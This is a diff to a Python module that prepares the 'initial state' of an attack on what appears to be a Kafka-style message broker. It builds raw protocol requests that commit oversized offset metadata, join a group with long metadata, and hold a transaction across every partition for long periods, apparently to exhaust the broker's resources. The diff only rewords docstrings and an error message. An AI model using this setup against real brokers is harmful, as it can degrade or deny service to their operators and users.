@@ -1,4 +1,4 @@
-"""The state that the attack begins with: topics, groups and transactions that its requests name."""
+"""The initial state of the attack: the topics, groups and transactions that its requests name."""
 
 import struct
 
@@ -11,7 +11,7 @@ PRODUCERS = 300
 
 
 def prepare(address):
-    """Creates the state, and returns the transactional producer of the large transaction: its name, id and epoch."""
+    """Creates the state. Returns the name, id and epoch of the producer of the large transaction."""
     connection = Connection(address)
     for name, (partitions, config) in TOPICS.items():
         create(connection, name, partitions, config)
@@ -29,7 +29,7 @@ def prepare(address):
 
 def fail(what, error):
     if error:
-        raise Find(f"the attack cannot begin: error {error} of {what}")
+        raise Find(f"the attack cannot begin: {what} failed with error {error}")
 
 
 def create(connection, name, partitions, config):
@@ -40,7 +40,7 @@ def create(connection, name, partitions, config):
 
 
 def commit(connection):
-    """A position with metadata for every partition."""
+    """Commits an offset with metadata for every partition."""
     body = text(WIDE_OFFSETS) + struct.pack(">i", -1) + text("") + struct.pack(">qi", -1, 1) + text(WIDE)
     body += struct.pack(">i", WIDE_PARTITIONS)
     body += b"".join(struct.pack(">iq", index, 0) + text("m" * 100) for index in range(WIDE_PARTITIONS))
@@ -49,7 +49,7 @@ def commit(connection):
 
 
 def join(connection):
-    """A member with long metadata and a long assignment, for half an hour."""
+    """Creates a member with long metadata and a long assignment, for half an hour."""
     blob = struct.pack(">i", WIDE_METADATA) + bytes(WIDE_METADATA)
     body = text(WIDE_MEMBERS) + struct.pack(">ii", 1_800_000, 1_800_000) + text("") + text("consumer")
     response = connection.request(11, 1, body + struct.pack(">i", 1) + text("range") + blob)
@@ -63,7 +63,7 @@ def join(connection):
 
 
 def begin(connection):
-    """A transaction that has every partition of the topic, for a quarter of an hour."""
+    """Begins a transaction with every partition of the topic, for a quarter of an hour."""
     response = connection.request(22, 0, text(WIDE_TRANSACTION) + struct.pack(">i", 900_000))
     _, error, producer, epoch = struct.unpack(">ihqh", response)
     fail("InitProducerId", error)
